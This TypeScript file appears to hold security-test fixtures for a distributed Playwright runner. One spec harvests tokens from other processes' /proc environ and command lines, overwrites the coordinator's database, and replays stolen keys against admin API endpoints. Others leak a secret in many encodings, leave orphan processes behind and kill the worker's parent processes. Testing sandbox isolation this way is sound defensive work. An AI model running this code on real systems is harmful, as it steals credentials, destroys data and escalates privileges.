/** The source of a test that does all it can against the machine it runs on, and writes down what came of it. It knows all paths and names. */

/** What it is told, by a variable of its run. */
export interface MaliciousPlan {
  /** The coordinator's address. */
  url: string;
  workerData: string;
  coordinatorData: string;
  /** Folder for what it finds. */
  out: string;
  /** Of a run that this worker has nothing to do with. */
  otherTree: string;
  otherTask: string;
  otherFence: number;
}

/** `findings.json` in `out`: by name, what was found; '' for nothing, `failed: …` for an error. */
export type Findings = Record<string, string>;

export const MALICIOUS_SPEC = String.raw`import { test } from '@playwright/test';
import fs from 'node:fs';
import path from 'node:path';
import { spawn } from 'node:child_process';

const plan = JSON.parse(process.env.PLAN);
const findings = {};
async function attempt(name, work) {
  try { findings[name] = String(await work()); }
  catch (error) { findings[name] = 'failed: ' + (error.code ?? error.message); }
}
const pids = () => fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name));
const secretsIn = (text) => [...new Set(text.match(/pf[a-z]_[\w-]{43}|bank-[\w-]+-money/g) ?? [])].join(' ');
function inProc(file) {
  let all = '';
  for (const pid of pids()) {
    if (pid === String(process.pid)) continue;
    try { all += fs.readFileSync('/proc/' + pid + '/' + file, 'latin1') + '\n'; } catch {}
  }
  return all;
}
function filesBelow(dir) {
  const entries = fs.readdirSync(dir, { recursive: true, withFileTypes: true });
  return entries.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
}
const everythingIn = (dir) => filesBelow(dir).map((file) => fs.readFileSync(file, 'latin1')).join('\n');
async function ask(key, method, at, body) {
  const headers = { authorization: 'Bearer ' + key, ...(body ? { 'content-type': 'application/json' } : {}) };
  const answer = await fetch(plan.url + '/api/v1' + at, { method, headers, ...(body ? { body: JSON.stringify(body) } : {}) });
  return { status: answer.status, text: await answer.text() };
}

test('looks around', async () => {
  test.setTimeout(120_000);
  await attempt('own environment', () => secretsIn(JSON.stringify(process.env)));
  await attempt('environments', () => secretsIn(inProc('environ')));
  await attempt('command lines', () => secretsIn(inProc('cmdline')));
  await attempt('key file', () => secretsIn(fs.readFileSync(path.join(plan.workerData, 'key.json'), 'utf8')));
  await attempt('outbox', () => fs.readdirSync(path.join(plan.workerData, 'outbox')).length + ' files');
  await attempt('other slots', () => fs.readdirSync(path.join(plan.workerData, 'work')).length + ' folders');
  await attempt("files of the coordinator", () => everythingIn(plan.coordinatorData).length + ' bytes');
  await attempt("key of the coordinator", () => fs.readFileSync(path.join(plan.coordinatorData, 'secret.key')).length + ' bytes');
  await attempt("database of the coordinator", () => fs.writeFileSync(path.join(plan.coordinatorData, 'playfleet.db'), 'gone'));
  await attempt('memory of the agent', () => fs.openSync('/proc/' + process.ppid + '/mem', 'r') + ' open');
  const key = findings['key file'];
  const found = [key, ...findings['environments'].split(' '), ...findings['command lines'].split(' ')];
  const calls = [
    ['GET', '/tokens'], ['GET', '/settings'], ['GET', '/people'], ['GET', '/test-runs'], ['GET', '/audit'], ['GET', '/workers'],
    ['GET', '/projects/bank/secrets'], ['GET', '/events'], ['POST', '/tokens', { kind: 'api', role: 'admin' }],
    ['PUT', '/settings', { worker_approval: false }], ['POST', '/test-runs/create', { name: 'mine', total_shards: 1 }],
  ];
  for (const [index, one] of [...new Set(found.filter((text) => text.startsWith('pf')))].entries()) {
    for (const [method, at, body] of calls) {
      await attempt('call ' + index + ' ' + one.slice(0, 4) + ' ' + method + ' ' + at, async () => (await ask(one, method, at, body)).status);
    }
    await attempt('enrol ' + index, async () => (await ask(one, 'POST', '/workers/register', { hostname: 'mine', capabilities: { browsers: [], platform: 'linux' } })).status);
    await attempt('exchange ' + index, async () => (await ask('', 'POST', '/auth/exchange', { token: one, name: 'x' })).status);
  }
  await attempt('tree of another run', async () => (await ask(key, 'GET', '/blobs/' + plan.otherTree)).status);
  await attempt('result for the task of another worker', async () =>
    (await ask(key, 'POST', '/tasks/' + plan.otherTask + '/complete', { fence: plan.otherFence })).status);
});

test('leaves processes behind', async () => {
  const start = (command, args, env) => {
    const child = spawn(command, args, { detached: true, stdio: 'ignore', env });
    child.unref();
  };
  start('sleep', ['7001'], process.env);
  start('sh', ['-c', '(setsid sleep 7002 &) ; exit 0'], process.env);
  start('env', ['-i', '/usr/bin/setsid', '/bin/sh', '-c', '/bin/sleep 7003 & exit 0'], {});
  await new Promise((resolve) => setTimeout(resolve, 1500));
});

test('tells its secret', async ({}, info) => {
  const secret = process.env.SHOP_SECRET;
  for (const char of secret) process.stdout.write(char);
  console.log('');
  for (let at = 1; at < secret.length; at++) { process.stdout.write(secret.slice(0, at)); process.stdout.write(secret.slice(at) + '\n'); }
  for (const before of ['', 'x', 'xy']) console.log(Buffer.from(before + secret).toString('base64'));
  console.log(encodeURIComponent(secret), JSON.stringify({ secret }), Buffer.from(secret).toString('base64url'));
  console.error(secret);
  info.annotations.push({ type: 'x', description: secret });
  await info.attach('told.txt', { body: secret, contentType: 'text/plain' });
  await test.step(secret, () => undefined);
  console.log('reversed ' + [...secret].reverse().join(''));
});

test('fills the logs', async () => {
  const line = 'x'.repeat(1000) + '\n';
  for (let n = 0; n < 20_000; n++) process.stdout.write(line);
});

test('says it is done', () => {
  fs.writeFileSync(path.join(plan.out, 'findings.json'), JSON.stringify(findings));
});
`;

/** Waits beside it, in another project of the same worker, with a secret of its own, until the other is done. */
export const VICTIM_SPEC = String.raw`import { test } from '@playwright/test';
import fs from 'node:fs';
import path from 'node:path';
test('waits', async () => {
  test.setTimeout(300_000);
  fs.writeFileSync(path.join(process.env.OUT, 'victim'), '');
  while (!fs.existsSync(path.join(process.env.OUT, 'findings.json'))) await new Promise((resolve) => setTimeout(resolve, 100));
});
`;

/** Kills its worker: all processes between itself and the one whose pid it is told. */
export const KILLER_SPEC = String.raw`import { test } from '@playwright/test';
import fs from 'node:fs';
test('kills the agent', async () => {
  const parentOf = (pid) => Number(/^PPid:\s+(\d+)/m.exec(fs.readFileSync('/proc/' + pid + '/status', 'utf8'))[1]);
  const agent = Number(process.env.AGENT);
  const above = [];
  for (let pid = process.ppid; pid > 1 && above.at(-1) !== agent; pid = parentOf(pid)) above.push(pid);
  for (const pid of above.reverse()) process.kill(pid, 'SIGKILL');
  await new Promise((resolve) => setTimeout(resolve, 60_000));
});
`;
